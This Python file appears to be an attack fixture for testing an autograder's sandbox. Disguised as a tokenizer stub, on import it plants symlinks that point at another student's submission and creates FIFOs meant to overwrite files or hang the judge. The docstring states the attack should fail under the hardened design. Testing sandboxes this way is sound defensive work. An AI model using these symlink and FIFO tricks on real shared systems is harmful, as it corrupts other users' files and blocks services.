"""ATTACK shared_links (kind: links and FIFOs in the shared folder).

What it tries: make the judge, which runs unconfined, write or block on a path of the worker's choosing. At
import it puts, in its own folder (the one the worker may write, which the judge used to open): ``tok.json``, the
name a visible test reads back, as a symbolic link to ``exercises/ex4_scaling.py`` of another submission of the
batch (found by listing the sandboxes, or by a guessed name where Landlock forbids listing; in student mode, a
file ``atk-shared_links-victim`` in /tmp); each ``broken-*.json`` that a hidden test writes as a link to that same
file; ``no-such-file.json`` and ``output.txt`` of the next worker as FIFOs, which a judge opening them would wait
on for ever. Its ``save`` makes the path it is given a link too. A judge that wrote ``student.files / name`` then
wrote into another student's submission (that student lost ex4 in the same batch) or anywhere the grading user
can. It prints ``atk-shared_links links to <target>`` each time it plants them.

Why it must fail under the new design: the judge never opens a path in the worker's folder; files cross as bytes
(``student.write``/``student.read``: the worker writes them, and reads back a regular file only, opened
without following a link), and the next worker's folder is made fresh. The mark that it ran: the links are
made (the test's read of ``tok.json`` is refused as not a regular file).
"""

from __future__ import annotations

import glob
import os

HERE = os.getcwd()  # the worker's folder: <box>/<student>/work/worker-N in a batch


GUESSED = ("zz-reference", "b-victim")  # classmates' names (a roster, say): Landlock forbids listing the box


def _victims() -> list[str]:
    box = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
    me = os.path.basename(os.path.dirname(os.path.dirname(HERE)))
    found = sorted(glob.glob(os.path.join(box, "*", "exercises", "ex4_scaling.py")))
    found += [os.path.join(box, name, "exercises", "ex4_scaling.py") for name in GUESSED]
    others = [path for path in found if os.path.lexists(path) and f"/{me}/" not in path]
    return others or ["/tmp/atk-shared_links-victim"]


def _link(name: str, target: str) -> None:
    try:
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(target, name)
    except OSError:
        pass


def _plant() -> None:
    victim = _victims()[-1]
    print(f"atk-shared_links links to {victim}")  # the mark that it ran, and whom it aimed at
    _link("tok.json", victim)
    for case in ("not-json", "a-json-list", "a-json-string"):  # the files a hidden test writes: into the victim
        _link(f"broken-{case}.json", victim)
    for name in ("no-such-file.json",):
        try:
            os.mkfifo(name)
        except OSError:
            pass
    base, _, number = os.path.basename(HERE).rpartition("-")
    if number.isdigit():  # the next worker's folder, made in advance with a FIFO for its output (denied by Landlock)
        ahead = os.path.join(os.path.dirname(HERE), f"{base}-{int(number) + 1}")
        try:
            os.mkdir(ahead)
            os.mkfifo(os.path.join(ahead, "output.txt"))
        except OSError:
            pass


_plant()


class SpecialTokenizer:
    def __init__(self, *args, **kwargs) -> None:
        _plant()
        self.special_ids = {}

    def save(self, path) -> None:
        _link(str(path), _victims()[-1])

    @classmethod
    def load(cls, path):
        raise NotImplementedError("ex1: shared_links only plants links")

    def encode(self, *args, **kwargs):
        raise NotImplementedError("ex1: shared_links only plants links")
